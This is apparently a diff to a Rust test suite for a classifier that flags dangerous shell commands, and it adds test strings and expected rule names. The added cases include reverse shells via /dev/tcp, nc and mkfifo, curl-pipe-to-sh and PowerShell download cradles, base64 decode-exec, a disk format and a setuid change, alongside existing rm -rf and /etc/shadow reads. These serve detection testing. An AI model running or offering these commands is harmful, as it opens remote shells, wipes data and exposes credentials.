@@ -30,6 +30,15 @@ fn dangerous_pipelines() {
         ("x; rm -rf / --no-preserve-root", "shell.delete-chained"),
         ("a.txt; cat /etc/passwd", "shell.read-chained"),
         ("x; cat${IFS}/etc/shadow", "shell.read-chained"),
+        ("/bin/bash -c 'bash -i >& /dev/tcp/10.0.0.1/443 0>&1'", "shell.reverse-shell"),
+        ("nc 10.0.0.1 1234 -e /bin/bash", "shell.reverse-shell"),
+        ("mkfifo f; cat f | /bin/sh -i 2>&1 | nc 10.0.0.1 1 > f", "shell.reverse-shell"),
+        ("bash -c \"$(echo aGk= | base64 --decode)\"", "shell.decode-exec"),
+        ("sh -c 'curl x.example | sh'", "shell.download-exec"),
+        ("mkfs.ext4 /dev/sda1", "shell.disk"),
+        ("chmod u+s /bin/bash", "shell.permissions-system"),
+        ("IEX(New-Object Net.WebClient).DownloadString('http://x/a')", "shell.powershell-encoded"),
+        ("iex (iwr http://x.example/a.ps1)", "shell.powershell-encoded"),
         ("rm -r -f ~/*", "shell.delete-system"),
         ("sudo rm -rf /usr/", "shell.delete-system"),
         ("rm -rf /*", "shell.delete-system"),
@@ -50,6 +59,9 @@ fn ordinary_commands() {
         "cat a.txt | grep b | sort > /dev/null 2>&1",
         "We cat and dog; we id nothing",
         "a && b || c",
+        "| Type | Description | Head |",
+        "it turned; head slightly tilted",
+        "the regular complexity; more time",
     ] {
         let found = rules(text, false);
         assert!(
